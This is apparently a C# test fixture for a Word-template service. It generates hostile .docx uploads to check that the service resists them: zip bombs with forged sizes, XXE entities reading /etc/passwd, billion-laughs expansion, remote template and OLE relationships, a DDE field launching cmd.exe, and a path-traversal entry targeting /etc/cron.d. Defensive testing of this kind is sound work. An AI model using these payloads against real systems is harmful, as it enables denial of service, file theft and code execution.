using System.IO.Compression;
using System.Text;

namespace WorkflowOffice.Word.Bench;

/// <summary>Files that mean harm, as somebody might upload them in place of a template.</summary>
internal static class HostileFiles
{
    private const string W = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"";
    private const string Rels = "http://schemas.openxmlformats.org/package/2006/relationships";
    private const string Types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    private const long Megabyte = 1024 * 1024;

    /// <param name="trap">An address where a listener counts who comes: nothing may.</param>
    public static IEnumerable<(string Name, Action<Stream> Write)> All(string trap) =>
    [
        ("压缩炸弹：1 GB 的零", zip => Docx(zip, archive => Zeros(archive, "word/media/image1.png", 1024 * Megabyte))),
        ("压缩炸弹：正文 1 GB", zip => Docx(zip, archive => Zeros(archive, "word/header1.xml", 1024 * Megabyte))),
        ("压缩炸弹：声明大小造假", zip => Lying(zip, forgeChecksum: false)),
        ("压缩炸弹：声明大小和校验和造假", zip => Lying(zip, forgeChecksum: true)),
        ("压缩炸弹：1,500 个部件各 1 MB", zip => Docx(zip, archive => Each(1_500, i => Zeros(archive, $"word/media/image{i}.png", Megabyte)))),
        ("压缩炸弹：五层套装", zip => Docx(zip, archive => Bytes(archive, "word/media/image1.png", Nested(5)))),
        ("100,000 个部件", zip => Docx(zip, archive => Each(100_000, i => Text(archive, $"word/x{i}.xml", "<x/>")))),
        ("100,000 个部件，声明 5 个", Understated),
        ("XXE：外部实体（文件、网络）", zip => Docx(zip, document: $"<!DOCTYPE w:document [<!ENTITY a SYSTEM \"file:///etc/passwd\"><!ENTITY b SYSTEM \"{trap}/b\">]><w:document {W}><w:body><w:p><w:r><w:t>&a;&b;</w:t></w:r></w:p></w:body></w:document>")),
        ("XXE：外部 DTD", zip => Docx(zip, document: $"<!DOCTYPE w:document SYSTEM \"{trap}/x.dtd\"><w:document {W}><w:body/></w:document>")),
        ("十亿笑：实体膨胀", zip => Docx(zip, document: Laughs())),
        ("嵌套 1,000,000 层", zip => Docx(zip, document: $"<w:document {W}><w:body>{Repeat("<w:sdt>", 1_000_000)}{Repeat("</w:sdt>", 1_000_000)}</w:body></w:document>")),
        ("一个元素 300,000 个属性", zip => Docx(zip, document: $"<w:document {W}><w:body><w:p {string.Concat(Enumerable.Range(0, 300_000).Select(i => $"a{i}=\"\" "))}/></w:body></w:document>")),
        ("一段 30 MB 文字", zip => Docx(zip, document: $"<w:document {W}><w:body><w:p><w:r><w:t>{new string('a', 30_000_000)}{{{{</w:t></w:r></w:p></w:body></w:document>")),
        ("300,000 个空段", zip => Docx(zip, document: $"<w:document {W}><w:body>{Repeat("<w:p/>", 299_000)}<w:p><w:r><w:t>{{{{if:A}}}}</w:t></w:r></w:p></w:body></w:document>")),
        ("100,000 个占位符", zip => Docx(zip, document: $"<w:document {W}><w:body>{Repeat("<w:p><w:r><w:t>{{A}}</w:t></w:r></w:p>", 50_000)}</w:body></w:document>")),
        ("1,499 重未闭合的条件", zip => Docx(zip, document: $"<w:document {W}><w:body>{Repeat("<w:p><w:r><w:t>{{if:A}}</w:t></w:r></w:p>", 1_499)}</w:body></w:document>")),
        ("远程图片", zip => Docx(zip, relations: $"<Relationship Id=\"rId9\" Type=\"{Types}/image\" Target=\"{trap}/pixel.png\" TargetMode=\"External\"/>")),
        ("远程模板（attachedTemplate）", zip => Docx(zip, relations: $"<Relationship Id=\"rId9\" Type=\"{Types}/attachedTemplate\" Target=\"{trap}/evil.dotm\" TargetMode=\"External\"/>")),
        ("远程框架（frame、oleObject）", zip => Docx(zip, relations: $"<Relationship Id=\"rId9\" Type=\"{Types}/frame\" Target=\"{trap}/f\" TargetMode=\"External\"/><Relationship Id=\"rId8\" Type=\"{Types}/oleObject\" Target=\"{trap}/o\" TargetMode=\"External\"/>")),
        ("DDE 域", zip => Docx(zip, document: $"<w:document {W}><w:body><w:p><w:fldSimple w:instr=\"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;\"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:body></w:document>")),
        ("INCLUDEPICTURE 域，拆在多个 run", zip => Docx(zip, document: $"<w:document {W}><w:body><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE \"{trap}/p\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:document>")),
        ("宏（vbaProject.bin）", zip => Docx(zip, archive => Bytes(archive, "word/vbaProject.bin", new byte[100]), types: "<Override PartName=\"/word/vbaProject.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>")),
        ("altChunk（HTML）", zip => Docx(zip, archive => Text(archive, "word/a.htm", $"<img src=\"{trap}\">"), types: "<Override PartName=\"/word/a.htm\" ContentType=\"text/html\"/>", relations: $"<Relationship Id=\"rId9\" Type=\"{Types}/aFChunk\" Target=\"a.htm\"/>")),
        ("路径穿越的部件名", zip => Docx(zip, archive => Text(archive, "word/../../../etc/cron.d/x", "x"))),
        ("19 MB 随机数据冒充 docx", zip => zip.Write([.. "PK\u0003\u0004"u8, .. Noise(19 * Megabyte)])),
        ("最大限度的模板：99,000 个节点", zip => Docx(zip, document: $"<w:document {W}><w:body>{Repeat("<w:p/>", 98_900)}<w:p><w:r><w:t>{{{{if:A}}}}</w:t></w:r></w:p></w:body></w:document>")),
        ("最大限度的正文：7.9 MB 一段", zip => Docx(zip, document: $"<w:document {W}><w:body><w:p><w:r><w:t>{new string('a', 7_900_000)}{{{{</w:t></w:r></w:p></w:body></w:document>")),
    ];

    private static void Docx(Stream target, Action<ZipArchive>? more = null, string? document = null, string relations = "", string types = "")
    {
        using var archive = new ZipArchive(target, ZipArchiveMode.Create, leaveOpen: true, Encoding.UTF8);
        Text(archive, "[Content_Types].xml",
            "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
            + "<Default Extension=\"xml\" ContentType=\"application/xml\"/><Default Extension=\"png\" ContentType=\"image/png\"/>"
            + $"<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>{types}</Types>");
        Text(archive, "_rels/.rels", $"<Relationships xmlns=\"{Rels}\"><Relationship Id=\"rId1\" Type=\"{Types}/officeDocument\" Target=\"word/document.xml\"/></Relationships>");
        Text(archive, "word/document.xml", document ?? $"<w:document {W}><w:body><w:p/></w:body></w:document>");
        Text(archive, "word/_rels/document.xml.rels", $"<Relationships xmlns=\"{Rels}\">{relations}</Relationships>");
        more?.Invoke(archive);
    }

    private static void Lying(Stream target, bool forgeChecksum)
    {
        const int Declared = 1000;
        var file = new MemoryStream();
        Docx(file, archive => Zeros(archive, "word/media/image1.png", 300 * Megabyte));
        var bytes = file.ToArray();
        Replace(bytes, BitConverter.GetBytes((int)(300 * Megabyte)), BitConverter.GetBytes(Declared));
        if (forgeChecksum)
        {
            // The checksum stands eight bytes before the size, in both headers.
            foreach (var (signature, offset) in new[] { ("PK\u0003\u0004"u8.ToArray(), 14), ("PK\u0001\u0002"u8.ToArray(), 16) })
            {
                for (var at = bytes.AsSpan().IndexOf(signature); at >= 0; at = Next(bytes, signature, at))
                {
                    if (BitConverter.ToInt32(bytes, at + offset + 8) == Declared)
                        BitConverter.GetBytes(ChecksumOfZeros(Declared)).CopyTo(bytes, at + offset);
                }
            }
        }

        target.Write(bytes);
    }

    private static int Next(byte[] bytes, byte[] signature, int after) =>
        bytes.AsSpan(after + 4).IndexOf(signature) is >= 0 and var next ? after + 4 + next : -1;

    private static uint ChecksumOfZeros(int count)
    {
        var zip = new MemoryStream();
        using (var archive = new ZipArchive(zip, ZipArchiveMode.Create, leaveOpen: true))
            Bytes(archive, "x", new byte[count]);
        using var read = new ZipArchive(zip, ZipArchiveMode.Read);
        return read.Entries[0].Crc32;
    }

    private static void Understated(Stream target)
    {
        var file = new MemoryStream();
        Docx(file, archive => Each(60_000, i => Text(archive, $"word/x{i}.xml", "<x/>")));
        var bytes = file.ToArray();
        var end = bytes.AsSpan().LastIndexOf("PK\u0005\u0006"u8);
        (bytes[end + 8], bytes[end + 9], bytes[end + 10], bytes[end + 11]) = (5, 0, 5, 0);
        target.Write(bytes);
    }

    private static void Replace(byte[] bytes, byte[] what, byte[] with)
    {
        for (var at = bytes.AsSpan().IndexOf(what); at >= 0; at = bytes.AsSpan().IndexOf(what))
            with.CopyTo(bytes, at);
    }

    private static byte[] Nested(int levels)
    {
        byte[] inner = new byte[10 * Megabyte];
        for (var i = 0; i < levels; i++)
        {
            var zip = new MemoryStream();
            using (var archive = new ZipArchive(zip, ZipArchiveMode.Create, leaveOpen: true))
                Each(10, copy => Bytes(archive, $"{copy}.zip", inner));
            inner = zip.ToArray();
        }

        return inner;
    }

    private static string Laughs()
    {
        var entities = string.Concat(Enumerable.Range(1, 9).Select(i => $"<!ENTITY l{i} \"{Repeat($"&l{i - 1};", 10)}\">"));
        return $"<!DOCTYPE w:document [<!ENTITY l0 \"ha\">{entities}]><w:document {W}><w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>";
    }

    private static void Zeros(ZipArchive archive, string name, long size)
    {
        using var entry = archive.CreateEntry(name, CompressionLevel.Fastest).Open();
        var block = new byte[Megabyte];
        for (var written = 0L; written < size; written += block.Length)
            entry.Write(block);
    }

    private static void Text(ZipArchive archive, string name, string text) => Bytes(archive, name, Encoding.UTF8.GetBytes(text));

    private static void Bytes(ZipArchive archive, string name, byte[] bytes)
    {
        using var entry = archive.CreateEntry(name, CompressionLevel.Fastest).Open();
        entry.Write(bytes);
    }

    private static byte[] Noise(long size)
    {
        var bytes = new byte[size];
        new Random(6).NextBytes(bytes);
        return bytes;
    }

    private static string Repeat(string text, int times) => new StringBuilder(text.Length * times).Insert(0, text, times).ToString();

    private static void Each(int count, Action<int> act)
    {
        for (var i = 0; i < count; i++)
            act(i);
    }
}
